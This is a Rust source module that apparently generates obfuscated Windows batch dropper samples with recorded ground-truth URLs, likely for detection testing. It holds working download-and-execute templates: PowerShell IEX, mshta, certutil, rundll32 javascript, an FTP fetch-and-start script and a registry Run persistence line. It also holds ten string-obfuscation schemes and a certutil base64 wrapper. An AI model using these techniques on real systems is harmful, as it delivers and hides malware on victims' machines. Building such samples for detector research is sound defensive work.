//! Droppers in batch, in the manners of DOSfuscation.

use crate::generator::{Dice, Truth, base64, put, reversed, wide};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".ps1", ".bat", ".txt", ""];
const LETTERS: &str = "abcdefghijklmnopqrstuvwxyz0123456789:/.-";

/// A word of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(10) {
        0 => {
            // FORcoding: places in a table, with an end that is none.
            let table = dice.shuffled(LETTERS);
            let mut list: Vec<String> =
                text.chars().filter_map(|it| table.find(it)).map(|at| at.to_string()).collect();
            list.push("1337".to_owned());
            let _ = writeln!(
                before,
                "setlocal EnableDelayedExpansion\nset {other}={table}&&set {name}=&&for %%a in ({}) do (if %%a neq 1337 (set {name}=!{name}!!{other}:~%%a,1!))",
                list.join(" ")
            );
            format!("!{name}!")
        }
        1 => {
            // Two of three letters are noise.
            let mut noisy = String::new();
            for letter in text.chars() {
                noisy.push(letter);
                noisy.push_str(dice.pick(&["qk", "Zw", "7x", "Jj"]));
            }
            let _ = writeln!(
                before,
                "setlocal enabledelayedexpansion\nset {other}={noisy}\nset {name}=\nfor /L %%i in (0,3,{}) do set {name}=!{name}!!{other}:~%%i,1!",
                noisy.len() - 1
            );
            format!("!{name}!")
        }
        2 => {
            // Letters that stand for others, put back one after the other.
            let turned = text.replace('t', "@").replace('e', "$");
            let _ = writeln!(
                before,
                "set {name}={turned}\nset {name}=%{name}:@=t%\nset {name}=%{name}:$=e%",
            );
            format!("%{name}%")
        }
        3 => {
            let _ =
                writeln!(before, "for /f \"delims=\" %%i in ('echo {text}') do set \"{name}=%%i\"");
            format!("%{name}%")
        }
        4 => {
            let _ = writeln!(
                before,
                "set {other}={text}\nfor /f \"tokens=2 delims==\" %%a in ('set {other}') do set {name}=%%a"
            );
            format!("%{name}%")
        }
        5 => {
            let (head, tail) = text.split_at(text.len() / 2);
            let _ = writeln!(before, "set {name}={other}{tail}{head}");
            format!("%{name}:~-{}%%{name}:~-{},{}%", head.len(), text.len(), tail.len())
        }
        6 => {
            let _ = writeln!(
                before,
                "echo {text}>%TEMP%\\{other}.tmp\nset /p {name}=<%TEMP%\\{other}.tmp\ndel %TEMP%\\{other}.tmp"
            );
            format!("%{name}%")
        }
        7 => {
            let _ = writeln!(
                before,
                "setlocal EnableDelayedExpansion\nset {other}={}\nset {name}=\nfor /L %%a in ({},-1,0) do set {name}=!{name}!!{other}:~%%a,1!",
                reversed(text),
                text.len() - 1
            );
            format!("!{name}!")
        }
        8 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            let mut line = String::new();
            for (name, piece) in names.iter().zip(&pieces) {
                let _ = write!(line, "set {name}={piece}&&");
            }
            let word: String = names.iter().map(|it| format!("%%{it}%%")).collect();
            let _ = writeln!(before, "{line}call set {name}={word}");
            format!("%{name}%")
        }
        _ => {
            // What is not set is nothing.
            let mut word = String::new();
            for piece in dice.pieces(text) {
                let _ = write!(word, "{piece}%{}%", dice.name());
            }
            word
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("@echo off\n{before}{line}exit /b\n");
    let text = if dice.chance(20) {
        // The program is in a text that a tool of the system decodes.
        let code = base64(text.replace('\n', "\r\n").as_bytes());
        let file = dice.name();
        let lines: String = code
            .as_bytes()
            .chunks(64)
            .map(|line| format!("echo {}>>%TEMP%\\{file}.b64\n", String::from_utf8_lossy(line)))
            .collect();
        format!(
            "@echo off\ndel %TEMP%\\{file}.b64 2>nul\n{lines}certutil -decode %TEMP%\\{file}.b64 %TEMP%\\{file}.bat >nul\ncall %TEMP%\\{file}.bat\n"
        )
    } else {
        text
    };
    text.replace('\n', "\r\n")
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(11) {
        0 => {
            let host = dice.host();
            truth.urls.insert(format!("ftp://{host}/{file}.exe"));
            put(
                "echo open @U@>%TEMP%\\@V@.txt
echo user anonymous x>>%TEMP%\\@V@.txt
echo binary>>%TEMP%\\@V@.txt
echo get @F@.exe>>%TEMP%\\@V@.txt
echo bye>>%TEMP%\\@V@.txt
ftp -n -s:%TEMP%\\@V@.txt
start @F@.exe
",
                &[("U", &hide(dice, &host, before)), ("F", &file), ("V", &var)],
            )
        }
        1 => {
            let url = truth.url(dice, FILES);
            let (head, tail) = url.split_at(url.len() / 2);
            put(
                "c^m^d /v:o^n /c \"set @V@=@A@&&set x@V@=@B@&& c^url -s -o %TEMP%\\@F@.exe !@V@!!x@V@!&& %TEMP%\\@F@.exe\"\n",
                &[("A", head), ("B", tail), ("F", &file), ("V", &var)],
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let template = dice.pick(&[
                "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:@U@\").Exec();\n",
                "wmic process call create \"mshta @U@\"\n",
                "wmic os get /format:\"@U@\"\n",
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v @F@ /t REG_SZ /d \"mshta.exe @U@\" /f >nul\n",
                "for /f \"delims=\" %%x in ('curl -s @U@') do %%x\n",
                ",;,C^Md.e^xe,;,/^C,;,((\"cert\"util -url\"\"cache -f @U@ %TEMP%\\@F@.exe))\n",
                "(\necho var h=new ActiveXObject(\"MSXML2.XMLHTTP\"^);\necho h.open(\"GET\",\"@U@\",false^);h.send(^);\necho eval(h.responseText^);\n)>\"%TEMP%\\@F@.js\"\nwscript //b //e:jscript \"%TEMP%\\@F@.js\"\n",
                "echo IEX (New-Object Net.WebClient).DownloadString('@U@') | powershell -nop -noni -\n",
                "set @V@=po&set @F@=wersh&set w@V@=ell\n%@V@%%@F@%%w@V@% -w 1 -nop -c \"$u='@U@';$w=New-Object Net.WebClient;$w.Proxy=$null;IEX $w.DownloadString($u)\"\n",
                "%ComSpec:~0,1%md /q /c \"curl -sfL @U@ -o %TEMP%\\@F@.bat && call %TEMP%\\@F@.bat || exit 1\"\n",
                "start /b \"\" %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e @E@\n",
            ]);
            let line = format!("iex(irm '{url}')");
            let word =
                if template.contains("@U@") { hide(dice, &url, before) } else { String::new() };
            put(template, &[("U", &word), ("F", &file), ("V", &var), ("E", &base64(&wide(&line)))])
        }
    }
}
